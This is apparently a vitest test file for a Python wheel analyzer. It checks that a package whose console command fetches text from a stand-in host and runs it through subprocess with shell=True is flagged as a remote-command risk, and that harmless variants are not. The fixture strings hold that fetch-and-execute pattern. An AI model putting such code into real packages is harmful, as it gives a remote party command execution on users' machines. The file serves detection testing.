import { describe, expect, test } from 'vitest';
import { analyzeWheel } from '../testing/analyze-wheel.ts';

const FILES = {
  'own/__init__.py': '',
  'own/wire.py':
    'import urllib.request\ndef orders():\n    return urllib.request.urlopen("https://a.weir.test/o").read().decode()\n',
  'own/start.py': 'import subprocess\ndef start(line):\n    subprocess.Popen(line, shell=True)\n',
  'own/cli.py': 'from .start import start\nfrom . import wire\ndef main():\n    start(wire.orders())\n',
};
const COMMAND = { 'own-1.0.dist-info/entry_points.txt': '[console_scripts]\nown = own.cli:main\n' };

async function told(files: Record<string, string>): Promise<string[]> {
  const { findings } = await analyzeWheel(files);
  return findings
    .filter(({ severity }) => severity === 'high')
    .map(({ rule, location }) => `${rule} ${location?.file}`);
}

describe('a module that only brings others together', () => {
  test('is looked at where a command is made of it', async () => {
    expect(await told({ ...FILES, ...COMMAND })).toContain('decode-and-run/remote-command own/cli.py');
  });

  test.each([
    ['nothing is made of it', {}],
    [
      'it brings one together with nothing',
      { ...COMMAND, 'own/cli.py': 'from .start import start\ndef main(x):\n    start(x)\n' },
    ],
    [
      'none of them acts',
      { ...COMMAND, 'own/wire.py': 'def orders(): return 1\n', 'own/start.py': 'def start(x): return x\n' },
    ],
  ])('and not where %s', async (_why, files) => {
    expect(await told({ ...FILES, ...files })).toEqual([]);
  });
});
